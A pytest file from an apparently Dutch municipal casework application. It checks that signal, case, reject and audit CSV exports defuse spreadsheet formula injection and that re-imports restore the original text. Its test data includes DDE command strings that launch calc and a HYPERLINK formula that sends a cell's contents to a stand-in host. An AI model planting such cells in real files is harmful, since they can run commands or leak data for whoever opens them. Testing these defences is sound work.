"""CSV formula injection (issue 15, item 4): every CSV the program writes (the signal and
case exports, the rejects of an import, the audit export) writes a cell that a spreadsheet
would run as a formula with a leading ``'``; the import drops it again, so an export imports
with its texts as they were."""

from __future__ import annotations

import csv
import io

import pytest

from sociaalveilig.core import csvimport
from sociaalveilig.core.csvsafe import neutralise, restore_cell, safe_writer
from sociaalveilig.core.enums import Role
from sociaalveilig.services import auditlog, exports, imports, signal_records
from sociaalveilig.services.context import ServiceContext
from tests.conftest import ActorFactory
from tests.services.seed_casework import make_case

HEADER = (
    "datum;bron;organisatie;categorie;postcode;huisnummer;toevoeging;straat;plaats;"
    "omschrijving;urgentie;melder"
)
# The tester's values, and one of each character a spreadsheet starts a formula with.
HOSTILE = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://voorbeeld.invalid/?d="&A1;"klik")',
    "+31 45 000 0000",
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _rows(data: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data), delimiter=";"))


def _import_file(rows: list[dict[str, str]]) -> bytes:
    buf = io.StringIO()
    writer = csv.writer(buf, delimiter=";", lineterminator="\r\n")
    writer.writerow(csvimport.COLUMNS)
    for row in rows:
        writer.writerow([row.get(name, "") for name in csvimport.COLUMNS])
    return buf.getvalue().encode("utf-8")


def _row(description: str, **extra: str) -> dict[str, str]:
    row = {
        "datum": "14-04-2026 09:30",
        "bron": "politie",
        "categorie": "WO-OVL",
        "postcode": "6463 AB",
        "huisnummer": "12",
        "straat": "Fictiefstraat",
        "plaats": "Kerkrade",
        "omschrijving": description,
    }
    row.update(extra)
    return row


def _is_formula(cell: str) -> bool:
    return cell[:1] in ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize("value", HOSTILE)
def test_neutralise_prefixes_formula_cells_and_restore_undoes_it(value: str) -> None:
    safe = neutralise(value)
    assert safe == "'" + value
    assert restore_cell(safe) == value


@pytest.mark.parametrize("value", ["Harde muziek", "'s avonds lawaai", "6463 AB", "", "12"])
def test_ordinary_cells_are_left_alone(value: str) -> None:
    assert neutralise(value) == value
    assert restore_cell(value) == value


def test_safe_writer_leaves_numbers_as_numbers() -> None:
    buf = io.StringIO()
    safe_writer(buf).writerow([-3, "-3", None])
    assert buf.getvalue() == "-3;'-3;\r\n"


def test_signal_export_neutralises_every_hostile_text(coordinator_ctx: ServiceContext) -> None:
    rows = [_row(value) for value in HOSTILE]
    # Hostile values in the other free-text columns too.
    rows.append(
        _row("Gewone tekst", organisatie="=1+1", straat="@straat", plaats="+plaats", melder="-x")
    )
    outcome = imports.import_signals(coordinator_ctx, _import_file(rows), skip_invalid=False)
    assert outcome.imported == len(rows), outcome.error_lines

    text, count = exports.export_signals(coordinator_ctx)
    assert count == len(rows)
    exported = _rows(text)[1:]
    cells = [cell for row in exported for cell in row]
    assert not [cell for cell in cells if _is_formula(cell)]
    descriptions = {row[csvimport.COLUMNS.index("omschrijving")] for row in exported}
    # The import strips a text's outer blanks, so the tab and CR ones were stored as "=1+1".
    assert {"'" + value.strip() for value in HOSTILE} <= descriptions
    last = exported[-1]
    assert last[csvimport.COLUMNS.index("organisatie")] == "'=1+1"
    assert last[csvimport.COLUMNS.index("straat")] == "'@straat"
    assert last[csvimport.COLUMNS.index("melder")] == "'-x"


def test_case_export_neutralises_hostile_texts(coordinator_ctx: ServiceContext) -> None:
    make_case(coordinator_ctx, street='=HYPERLINK("http://voorbeeld.invalid")', city="@Kerkrade")
    text, count = exports.export_cases(coordinator_ctx)
    assert count == 1
    row = _rows(text)[1]
    columns = list(exports.CASE_COLUMNS)
    assert row[columns.index("straat")] == "'=HYPERLINK(\"http://voorbeeld.invalid\")"
    assert row[columns.index("plaats")] == "'@Kerkrade"


def test_rejects_file_neutralises_hostile_cells(coordinator_ctx: ServiceContext) -> None:
    bad = _row("=cmd|' /C calc'!A0", postcode="=1+1", huisnummer="-5", straat="\t@x")
    good = _row("Harde muziek")
    outcome = imports.import_signals(coordinator_ctx, _import_file([good, bad]), skip_invalid=True)
    assert outcome.imported == 1 and outcome.rejects_csv
    header, rejected = _rows(outcome.rejects_csv)
    assert not [cell for cell in rejected if _is_formula(cell)]
    # The rejects keep the cells as they were in the file (so they can be fixed there).
    assert rejected[header.index("omschrijving")] == "'=cmd|' /C calc'!A0"
    assert rejected[header.index("postcode")] == "'=1+1"
    assert rejected[header.index("huisnummer")] == "'-5"
    assert rejected[header.index("straat")] == "'\t@x"


def test_audit_export_neutralises_every_column(
    admin_ctx: ServiceContext, make_actor: ActorFactory
) -> None:
    agent = make_actor(Role.WIJKAGENT, username="wim")
    with agent.unit() as session:
        agent.audit(
            session,
            "view",
            "+objecttype",
            "=object",
            # At most the column's 20 characters (storage/guard.py refuses more).
            person_ref='=HYPERLINK("x.nl")',
            purpose="-",
        )
    text, _count = auditlog.export_audit_csv(admin_ctx)
    rows = _rows(text)
    cells = [cell for row in rows[1:] for cell in row]
    assert not [cell for cell in cells if _is_formula(cell)]
    mine = next(row for row in rows if row[6] == "'=object")
    assert mine[5] == "'+objecttype" and mine[7].startswith("'=HYPERLINK") and mine[8] == "'-"


def test_exported_file_imports_with_its_texts_as_they_were(
    coordinator_ctx: ServiceContext,
) -> None:
    texts = ["- kapotte lantaarnpaal bij de speeltuin", "=1+1 staat op de muur gekalkt"]
    rows = [_row(text, straat="-Fictiefpad") for text in texts]
    assert imports.import_signals(coordinator_ctx, _import_file(rows), skip_invalid=False).imported
    exported, _count = exports.export_signals(coordinator_ctx)
    assert "'- kapotte lantaarnpaal" in exported  # as a spreadsheet shows it: text

    again = imports.import_signals(
        coordinator_ctx, exported.encode("utf-8"), skip_invalid=False
    )
    assert again.imported == 2, again.error_lines
    imported = [
        signal_records.get_signal(coordinator_ctx, ref)
        for ref in ("S-2026-000003", "S-2026-000004")
    ]
    assert sorted(s.description for s in imported) == sorted(texts)
    assert {s.street for s in imported} == {"-Fictiefpad"}
